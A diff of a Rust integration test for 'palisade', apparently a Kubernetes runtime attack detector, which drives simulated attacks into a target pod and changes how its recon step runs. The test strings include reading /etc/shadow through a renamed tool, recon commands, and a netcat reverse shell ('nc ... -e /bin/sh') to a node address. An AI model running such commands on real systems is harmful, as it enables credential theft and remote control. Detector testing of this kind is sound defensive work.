@@ -429,14 +429,9 @@ fn palisade_deployed_from_its_image_on_a_real_cluster_sees_kubectl_attacks_with_
     let node_ip = env("PALISADE_TEST_CLUSTER_NODE_IP");
     // The static musl tool (open(2), as Alpine's are) under a file tool's name.
     exec(&attack_ns, &target, "cp /usr/local/bin/readfile /tmp/cat && /tmp/cat /etc/shadow > /dev/null");
-    // Recon, one kubectl exec per command (each an execve by runc; inside one busybox `sh -c` the applets run in
-    // the shell's own process and exec nothing: see the README's "What is not built yet").
-    for command in [&["whoami"][..], &["id"], &["uname", "-a"], &["hostname"], &["ps"]] {
-        let mut args = vec!["-n", attack_ns.as_str(), "exec", target.as_str(), "--"];
-        args.extend_from_slice(command);
-        let output = kubectl_output(&args, None);
-        assert!(output.status.success(), "kubectl exec {command:?}: {}", String::from_utf8_lossy(&output.stderr));
-    }
+    // Recon inside one busybox `sh -c`: whoami, hostname and uname are NOFORK applets that run in the shell's
+    // own process and exec nothing; the script's words count.
+    exec(&attack_ns, &target, "whoami; hostname; uname -a; id > /dev/null");
     exec(&attack_ns, &target, &format!("timeout 5 nc {node_ip} {port} -e /bin/sh"));
     exec(
         &attack_ns,
